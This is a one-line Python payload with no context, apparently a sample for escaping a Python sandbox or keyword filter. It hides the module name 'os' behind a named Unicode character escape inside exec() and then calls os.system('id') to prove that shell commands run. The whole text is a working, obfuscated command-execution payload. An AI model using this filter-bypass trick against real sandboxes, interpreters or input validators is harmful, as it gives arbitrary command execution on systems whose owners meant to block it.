exec("import \N{LATIN SMALL LETTER O}s; os.system('id')")
